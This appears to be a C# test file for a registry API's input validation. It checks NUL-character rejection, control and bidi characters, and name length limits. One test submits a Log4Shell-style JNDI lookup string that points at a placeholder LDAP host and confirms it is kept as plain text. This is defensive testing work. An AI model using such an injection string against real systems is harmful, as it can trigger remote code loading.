using System.Net;
using System.Text;
using Platform.Tests.Infrastructure;

namespace Platform.Tests.Registry;

/// <summary>
/// Text the database cannot store or that is not a name: a NUL character (U+0000) in any string field of any
/// registry API is a 400 naming the field (PostgreSQL failed with 500 before), and admin key, agent token and
/// identity names are printable and at most 100 characters.
/// </summary>
[Collection(PlatformCollection.Name)]
public sealed class RegistryTextInputTests(DistributedApplicationFixture platform) : IAsyncLifetime
{
    private const string Nul = "\\u0000";

    private readonly RegistryPlatform _registry = new(platform);
    private TestTenant _tenant = null!;
    private StaticInstall _install = null!;
    private Guid _identity;
    private Guid _agent;

    public async Task InitializeAsync()
    {
        _tenant = await _registry.CreateTenantAsync("text");
        _identity = await _tenant.CreateIdentityAsync("owner");
        _agent = await _tenant.CreateAgentAsync("helper", _identity);
        _install = await _tenant.CreateStaticInstallAsync("nul");
    }

    public Task DisposeAsync()
    {
        _tenant.Dispose();
        return Task.CompletedTask;
    }

    public static TheoryData<string, string, string, string> NulFields => new()
    {
        { "POST", "/api/registry/identities", $$"""{"name":"a{{Nul}}b"}""", "name" },
        { "POST", "/api/registry/identities", $$"""{"name":"ok-nul","displayName":"x{{Nul}}"}""", "displayName" },
        { "POST", "/api/registry/agents", $$"""{"slug":"a","name":"n","subjectIdentityId":"{identity}","description":"{{Nul}}"}""", "description" },
        { "POST", "/api/registry/definitions", $$"""{"name":"d{{Nul}}","kind":"mcp","baseUrl":"https://mcp.example.com/mcp"}""", "name" },
        { "POST", "/api/registry/installs", $$"""{"slug":"s","authMethodId":"{method}","allowedTools":["a","b{{Nul}}"]}""", "allowedTools[1]" },
        { "POST", "/api/registry/credentials", """{"installId":"{install}","subjectIdentityId":"{identity}","secrets":{"api-key":{"value":"k""" + Nul + "\"}}}", "secrets.api-key.value" },
        { "POST", "/api/registry/spaces", $$"""{"slug":"sp","name":"s","description":"{{Nul}}"}""", "description" },
        { "POST", "/api/registry/admin-keys", $$"""{"name":"{{Nul}}"}""", "name" },
        { "POST", "/api/registry/agents/{agent}/tokens", $$"""{"name":"t{{Nul}}"}""", "name" },
        { "PUT", "/api/registry/identities/{identity}", $$"""{"name":"owner","email":"o{{Nul}}@example.com"}""", "email" },
    };

    [Theory]
    [MemberData(nameof(NulFields))]
    public async Task A_nul_character_in_any_string_field_is_a_400_naming_the_field(string method, string path, string body, string field)
    {
        using var request = new HttpRequestMessage(new HttpMethod(method), Fill(path))
        {
            Content = new StringContent(Fill(body), Encoding.UTF8, "application/json"),
        };

        using var response = await _tenant.Admin.SendAsync(request);

        await Api.AssertProblemAsync(response, HttpStatusCode.BadRequest, [field]);
    }

    [Fact]
    public async Task A_nul_character_in_a_query_or_path_value_is_a_400_too()
    {
        using var registry = _registry.Internal("webhook-ingress");

        using var response = await registry.GetAsync("/internal/tenants/by-slug/a%00b");

        Assert.True(response.StatusCode is HttpStatusCode.BadRequest or HttpStatusCode.NotFound, $"answered {(int)response.StatusCode}");
    }

    public static TheoryData<string, string> BadNames => new()
    {
        { "/api/registry/admin-keys", "\\t" },
        { "/api/registry/admin-keys", "line\\nbreak" },
        { "/api/registry/admin-keys", "bidi\\u202Eoverride" },
        { "/api/registry/admin-keys", "zero\\u200Bwidth" },
        { "/api/registry/admin-keys", new string('k', 101) },
        { "/api/registry/admin-keys", "   " },
        { "/api/registry/agents/{agent}/tokens", "\\u0007bell" },
        { "/api/registry/identities", "\\t" },
        { "/api/registry/identities", new string('i', 101) },
    };

    [Theory]
    [MemberData(nameof(BadNames))]
    public async Task Names_are_printable_and_bounded(string path, string name)
    {
        using var response = await _tenant.Admin.PostAsync(Fill(path), new StringContent($$"""{"name":"{{name}}"}""", Encoding.UTF8, "application/json"));

        await Api.AssertProblemAsync(response, HttpStatusCode.BadRequest, ["name"]);
    }

    [Fact]
    public async Task A_printable_name_that_merely_looks_like_an_expression_is_kept_as_text()
    {
        const string Name = "${jndi:ldap://example.test/a} ünïcødé 名前";

        await _tenant.PostAsync("/api/registry/admin-keys", new { name = Name }, "issue an admin key");
        var identity = await _tenant.PostAsync("/api/registry/identities", new { name = Name }, "create an identity");

        var keys = await _tenant.GetAsync("/api/registry/admin-keys");
        Assert.Contains(keys.EnumerateArray(), key => key.GetProperty("name").GetString() == Name);
        Assert.Equal(Name, identity.GetProperty("name").GetString());
    }

    private string Fill(string text) => text
        .Replace("{identity}", _identity.ToString(), StringComparison.Ordinal)
        .Replace("{agent}", _agent.ToString(), StringComparison.Ordinal)
        .Replace("{install}", _install.InstallId.ToString(), StringComparison.Ordinal)
        .Replace("{method}", _install.AuthMethodId.ToString(), StringComparison.Ordinal);
}
